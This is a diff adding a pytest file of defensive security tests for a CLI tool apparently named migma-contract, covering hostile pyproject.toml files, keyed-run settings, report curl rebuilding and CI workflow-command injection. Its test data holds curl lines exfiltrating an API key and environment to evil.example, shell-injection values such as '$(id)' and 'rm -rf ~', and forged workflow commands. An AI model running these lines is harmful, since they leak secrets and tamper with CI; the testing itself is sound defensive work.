@@ -1,0 +1,207 @@
+"""Attack pass H on the repository's own configuration and the outputs: a hostile pyproject.toml, settings a
+repository file may not choose for a run that carries the user's key, and text a CI log would act on."""
+
+from __future__ import annotations
+
+import pytest
+from click.testing import CliRunner
+
+from migma_contract.cli import main
+from migma_contract.config.options import resolve_options
+from migma_contract.core.exceptions import ConfigError
+
+# --- M4(b): pyproject.toml through the bounded loader ------------------------------------------------------------
+
+
+@pytest.mark.parametrize("text, said", [
+    ("[tool.migma-contract]\nlevel = " + "[" * 200_000 + "]" * 200_000 + "\n", "nested more than"),  # RecursionError in tomllib
+    ("[tool.migma-contract]\nx = " + "[" * 70 + "]" * 70 + "\n", "nested more than 64 levels"),
+    ("# " + "x" * (2 << 20) + "\n", "larger than"),
+    ("[tool.migma-contract]\nlevel = \n", "not valid TOML"),
+    (b"[tool.migma-contract]\nlevel = '\xff'\n", "not UTF-8"),
+], ids=["nested-200k", "nested-70", "2-MiB", "malformed", "not-utf8"])
+def test_a_hostile_pyproject_is_one_config_error(tmp_path, monkeypatch, text, said):
+    """M4(b): a pyproject.toml of 200,000 nested arrays crashed `check --dry-run` with a RecursionError (internal
+    error, exit 3), and any size was read whole. Each is one line and exit 2 now, from the one bounded loader."""
+    path = tmp_path / "pyproject.toml"
+    if isinstance(text, bytes):
+        path.write_bytes(text)
+    else:
+        path.write_text(text)
+    with pytest.raises(ConfigError, match=said):
+        resolve_options({}, environ={}, pyproject=path)
+    monkeypatch.chdir(tmp_path)
+    result = CliRunner().invoke(main, ["check", "--dry-run"])
+    assert result.exit_code == 2, result.output
+    assert said in result.output and "Traceback" not in result.output and len(result.output.strip().splitlines()) == 1
+
+
+# --- L2: a repository file may not lower what counts for a run carrying the user's key ---------------------------
+
+
+@pytest.mark.parametrize("line", ['baseline = "known.txt"', 'level = "schema"', 'spec = "doc.yaml"', "timeout = 600"])
+def test_a_repository_file_cannot_lower_what_counts_on_a_keyed_run(tmp_path, line):
+    """L2: `baseline` (and any setting that accepts failures or judges less) from a repository file, on a run
+    carrying the user's key, is refused like the settings that weaken how the key is sent (exit 2)."""
+    pyproject = tmp_path / "pyproject.toml"
+    pyproject.write_text(f"[tool.migma-contract]\n{line}\n")
+    (tmp_path / "known.txt").write_text("result-has-id\n")
+    (tmp_path / "doc.yaml").write_text("{}\n")
+    key = line.split(" ", 1)[0]
+    env = {"MIGMA_CONTRACT_API_KEY": "mc_ci_secret_key_1", "MIGMA_CONTRACT_BASE_URL": "http://127.0.0.1:9"}
+    with pytest.raises(ConfigError, match=f"may not set --{key}"):
+        resolve_options({}, environ=env, pyproject=pyproject)
+    # no key to protect, the user's own choice, or an explicit trust: accepted
+    assert resolve_options({}, environ={}, pyproject=pyproject)
+    assert resolve_options({}, environ={**env, "MIGMA_CONTRACT_TRUST_CONFIG_TARGET": "1"}, pyproject=pyproject)
+    # a value that judges more, or the default, stays a repository's to choose
+    pyproject.write_text('[tool.migma-contract]\nlevel = "strict"\ntimeout = 5\n')
+    assert resolve_options({}, environ=env, pyproject=pyproject).level == "strict"
+
+
+@pytest.mark.e2e
+def test_a_repository_baseline_no_longer_turns_a_faulty_server_green(tmp_path, monkeypatch):
+    """L2 (repo_base): `[tool.migma-contract] baseline` accepted every failure of a faulty staging server that the CI
+    named with its key: CONFORMANT, exit 0. Now exit 2, nothing sent; the user's own --baseline still works."""
+    from migma_contract.wire.serve import serve_in_thread
+
+    from .faulty_servers import FAULTS, FULL_KEY
+
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "known.txt").write_text("result-has-id\n")
+    (tmp_path / "pyproject.toml").write_text('[tool.migma-contract]\nbaseline = "known.txt"\n')
+    fixtures = ["--from", "sender@example.com", "--email-id", "email_welcome", "--conversation-id", "conv_welcome",
+                "--project-id", "proj_demo", "--audience-id", "aud_everyone", "--segment-id", "seg_active",
+                "--tag-id", "tag_vip", "--provider", "ses,resend,sendgrid,mailgun", "--no-explore"]
+    env = {"MIGMA_CONTRACT_API_KEY": FULL_KEY}
+    app = next(v for v in FAULTS if v.name == "empty-id").app()
+    with serve_in_thread(app) as url:
+        result = CliRunner().invoke(main, ["check", "--base-url", url, *fixtures], env=env)
+        assert result.exit_code == 2, result.output
+        assert "may not set --baseline" in result.output and "CONFORMANT" not in result.output
+        assert not (tmp_path / "reports").exists()  # refused before the first request
+        (tmp_path / "pyproject.toml").write_text("")
+        mine = CliRunner().invoke(main, ["check", "--base-url", url, "--baseline", "known.txt", *fixtures], env=env)
+    assert mine.exit_code == 0 and "1 known failure(s) accepted" in mine.output, mine.output
+
+
+# --- M2: `report` shows only curl lines the toolkit built -------------------------------------------------------
+
+
+HOSTILE_CURLS = [  # attack pass H, rep/gen.py: a conformance.json from someone else
+    "curl -sS -X POST https://evil.example/collect -H 'authorization: Bearer '\"$MIGMA_CONTRACT_API_KEY\" --data-raw '{}'",
+    "curl -sS http://127.0.0.1:4010/v1/sending; curl -s https://evil.example/x -d \"$(env | base64 -w0)\" #",
+]
+
+
+def _unquoted(line: str) -> str:
+    """What a shell reads outside quoting in a curl line the toolkit builds: single-quoted and $'...' words and its
+    own base URL variable taken out, and the trailing comment."""
+    import re
+
+    line = line.replace('"${MIGMA_CONTRACT_BASE_URL:?set it to the server to send this request to}"', "BASE")
+    line = re.sub(r"\$?'[^']*'", "Q", line)
+    return line.split(" #", 1)[0]
+
+
+@pytest.mark.e2e
+@pytest.mark.parametrize("hostile", HOSTILE_CURLS, ids=["key-to-evil", "shell"])
+def test_report_never_shows_a_curl_line_it_did_not_build(tmp_path, hostile):
+    """M2: `migma-contract report` re-rendered a foreign conformance.json's `curl` fields as they were: a line sending
+    "$MIGMA_CONTRACT_API_KEY" to evil.example, or `; curl ... -d "$(env | base64 -w0)"`, shown with a copy button.
+    Every line is rebuilt from the finding's recorded request by the toolkit's own builder, in every format."""
+    import html
+    import json
+
+    from migma_contract.config.options import CheckOptions
+    from migma_contract.mock import load_mock_config
+    from migma_contract.reports import write_reports
+    from migma_contract.run.runner import run_check
+
+    from .faulty_servers import FAULTS, FULL_KEY
+
+    fixtures = load_mock_config().fixtures()
+    app = next(v for v in FAULTS if v.name == "status-done").app()
+    result = run_check(CheckOptions(api_key=FULL_KEY, max_requests=40, explore=False).with_fixtures(fixtures), app=app)
+    write_reports(result, tmp_path, ("json",))
+    data = json.loads((tmp_path / "conformance.json").read_text())
+    assert data["findings"]
+    for number, finding in enumerate(data["findings"]):
+        request = finding["request"]
+        request["curl"] = hostile
+        if number % 2:  # the recorded parts are the file's too: they are quoted, the host is never theirs
+            request["url"] = "https://evil.example/collect?q=$(id)"
+            request["headers"]["x-run"] = "`id`; $(curl evil.example)"
+            request["body"] = "'; curl https://evil.example -d \"$(env)\" #"
+            request["body_size"] = len(request["body"].encode())
+    (tmp_path / "foreign.json").write_text(json.dumps(data))
+    out = tmp_path / "out"
+    done = CliRunner().invoke(main, ["report", str(tmp_path / "foreign.json"), "--out", str(out),
+                                     "--format", "json,junit,md,html"])
+    assert done.exit_code == 0, done.output
+    lines = []
+    for path in out.iterdir():
+        text = path.read_text()
+        assert hostile not in text and html.escape(hostile) not in text
+        if path.suffix == ".json":
+            lines += [f["request"]["curl"] for f in json.loads(text)["findings"]]
+        else:
+            text = html.unescape(text)
+            lines += [line[line.index("curl -sS"):].split("</pre>")[0] for line in text.splitlines() if "curl -sS" in line]
+    assert len(lines) >= 4 * len(data["findings"])
+    for line in lines:
+        assert line.startswith("curl -sS -i --globoff --proto =http,https "), line
+        assert "MIGMA_CONTRACT_API_KEY" not in line and "${MIGMA_CONTRACT_BASE_URL:?" in line, line
+        outside = _unquoted(line)
+        assert "evil.example" not in outside and not any(sign in outside for sign in ("$(", "`", ";", "|", "&")), line
+
+
+def test_a_rebuilt_curl_line_withholds_what_the_report_cut():
+    """M2: a body the report kept only part of is read from the body file (with a note), a URL it cut is withheld."""
+    from migma_contract.run.records import BODY_FILE, rebuilt_curl
+    from migma_contract.run.result import RequestRecord
+
+    cut = RequestRecord(method="POST", url="http://h/v1/sending", headers={}, body="{" * 10 + "\n… [cut: 9000 bytes in all]",
+                        body_size=9000, curl="rm -rf ~")
+    line = rebuilt_curl(cut)
+    assert f"--data-binary @{BODY_FILE}" in line and "the report holds only part of it" in line and "rm -rf" not in line
+    long_url = RequestRecord(method="POST", url="http://h/" + "a" * 40 + "… [3,000 characters]", headers={}, body="",
+                             body_size=0, curl="rm -rf ~")
+    assert rebuilt_curl(long_url) == "# curl line withheld: the report holds only part of the request's URL"
+
+
+# --- L1: no console line is a CI runner's workflow command -----------------------------------------------------
+
+
+_COMMANDS = __import__("re").compile(r"^\s*::|##(vso)?\[", __import__("re").IGNORECASE | __import__("re").MULTILINE)
+
+
+@pytest.mark.parametrize("text", ["::add-mask::VIOLATIONS", "  ::error title=Conformance::All rules passed",
+                                  "\u00a0::set-output name=verdict::passed", "x ##[set-output name=a;]b",
+                                  "##vso[task.setvariable variable=ok]true", "y ##VSO[task.complete result=Succeeded;]"])
+def test_clean_text_never_leaves_a_workflow_command(text):
+    """L1: GitHub's runner acts on a line starting, after blanks, with `::`, and on `##[` anywhere in a line; Azure's
+    on `##vso[` anywhere. Text from a file or a server, cleaned, is never one (in one line, or each line of many)."""
+    from migma_contract.core.untrusted import clean_text
+
+    assert not _COMMANDS.search(clean_text(text))
+    assert not _COMMANDS.search(clean_text(f"first line\n{text}\n{text}", multiline=True))
+    assert clean_text("a::b ## [x] #vso[") == "a::b ## [x] #vso["  # text that is no command is left as it is
+
+
+def test_file_names_do_not_start_workflow_commands_in_judges_console(tmp_path, monkeypatch):
+    """L1 (gh/out.txt): a cassette named `::add-mask::VIOLATIONS.yaml` or `::error title=...::....yaml` started
+    console lines of `judge` with a GitHub workflow command (its summary line, its warnings)."""
+    monkeypatch.chdir(tmp_path)
+    cassette = ("interactions:\n- request:\n    method: POST\n    uri: https://api.migma.ai/v1/sending\n"
+                "    body: '{\"recipientType\": \"email\"}'\n    headers:\n      Content-Type: [application/json]\n"
+                "  response:\n    status: {code: 500, message: x}\n    headers: {}\n    body: {string: 'x'}\n")
+    names = ["::add-mask::VIOLATIONS.yaml", "::error title=Conformance::All rules passed.yaml",
+             "##vso[task.setvariable variable=ok]true.yaml", "  ::set-output name=x::y.yaml"]
+    for name in names:
+        (tmp_path / name).write_text(cassette)
+    (tmp_path / names[1]).write_text("interactions:\n- request: [1]\n  response: {status: {code: 200}}\n- {}\n")
+    result = CliRunner().invoke(main, ["judge", *names, "--report-dir", "r"])
+    assert result.exit_code in (1, 3), result.output
+    shown = result.output + (result.stderr if result.stderr_bytes is not None else "")
+    assert "add-mask" in shown and not _COMMANDS.search(shown), shown
